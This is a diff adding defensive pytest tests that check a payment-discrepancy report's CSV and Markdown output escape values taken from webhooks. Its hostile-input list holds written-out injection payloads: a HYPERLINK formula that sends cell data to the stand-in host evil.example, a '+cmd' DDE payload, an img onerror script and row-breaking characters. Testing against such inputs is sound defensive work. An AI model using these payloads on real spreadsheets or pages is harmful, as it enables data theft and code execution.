@@ -82,6 +82,67 @@ def test_report_generation_escapes_text_and_ages_open_discrepancies() -> None:
     assert "&lt;b&gt;x&lt;/b&gt;" in page and "<b>x</b>" not in page
 
 
+HOSTILE_REFERENCES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+    "@SUM(A1:A9)", "\tTAB", "\rCR", "ref\rX", "ref\nY", "ref\r| injected | cell",
+    "<img src=x onerror=alert(1)> [pay here](http://evil.example)", "![i](http://x)",
+    "a|b", "`code`", "*bold* _it_",
+]
+
+
+def hostile_report(reference: str, amount: str = "10.50") -> dict[str, object]:
+    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
+    return build_report([Row("a", "missing_webhook", "Collection", "collection", reference,
+                             f"detail {reference}", Decimal(amount), "open",
+                             now - timedelta(hours=2), None)], now=now)
+
+
+@pytest.mark.parametrize("reference", HOSTILE_REFERENCES)
+def test_the_csv_report_reads_back_as_written_and_runs_no_formula(reference: str) -> None:
+    """References and details come from webhooks: a spreadsheet must neither run one as a
+    formula nor break its row at a bare CR."""
+    [row] = list(csv.DictReader(io.StringIO(render(hostile_report(reference), "csv"),
+                                            newline="")))
+    for field in ("reference", "detail"):
+        cell = row[field]
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell.removeprefix("'") == (reference if field == "reference"
+                                           else f"detail {reference}")
+    assert row["amount_at_risk"] == "10.50"
+
+
+def test_a_negative_amount_stays_a_number_in_the_csv_report() -> None:
+    [row] = list(csv.DictReader(io.StringIO(render(hostile_report("R", "-5.25"), "csv"),
+                                            newline="")))
+    assert row["amount_at_risk"] == "-5.25"
+
+
+@pytest.mark.parametrize("reference", HOSTILE_REFERENCES)
+def test_the_markdown_report_shows_text_as_text(reference: str) -> None:
+    page = render(hostile_report(reference), "md")
+    [open_row] = [line for line in page.splitlines()
+                  if line.startswith("| missing_webhook | Collection |")]
+    assert len(page.splitlines()) == len(render(hostile_report("R"), "md").splitlines())
+    # six cells, whatever the reference holds: no unescaped pipe, no line break
+    assert len(re.findall(r"(?<!\\)\|", open_row)) == 7
+    # no link, image or HTML: every bracket, angle bracket and bang is escaped
+    assert re.search(r"(?<!\\)[<>\[\]!]", open_row) is None
+
+
+def test_a_resolution_folded_before_its_detection_does_not_stop_the_report() -> None:
+    """Replayed out of order, a resolution makes a resolved row with no detection time yet;
+    that one row failed every format of every report until the detection was folded."""
+    now = datetime(2026, 11, 22, 12, tzinfo=UTC)
+    report = build_report([Row("b", "unknown_at_provider", "Collection", "collection", "R",
+                               "d", None, "resolved", None, now - timedelta(hours=1))],
+                          now=now)
+    assert report["totals"] == {"discrepancies": 1, "open": 0, "resolved": 1,
+                                "amount_at_risk_open": "0"}
+    assert report["timeline"] == [{"date": "2026-11-22", "detected": 0, "resolved": 1}]
+    for fmt in ("html", "md", "csv", "json"):
+        assert render(report, fmt)
+
+
 def test_a_payment_with_several_open_discrepancies_is_at_risk_once() -> None:
     """A failure beside a success of 10,000 that the provider calls failed holds a conflict
     and a mismatch at once: 10,000 is at risk, not 20,000."""
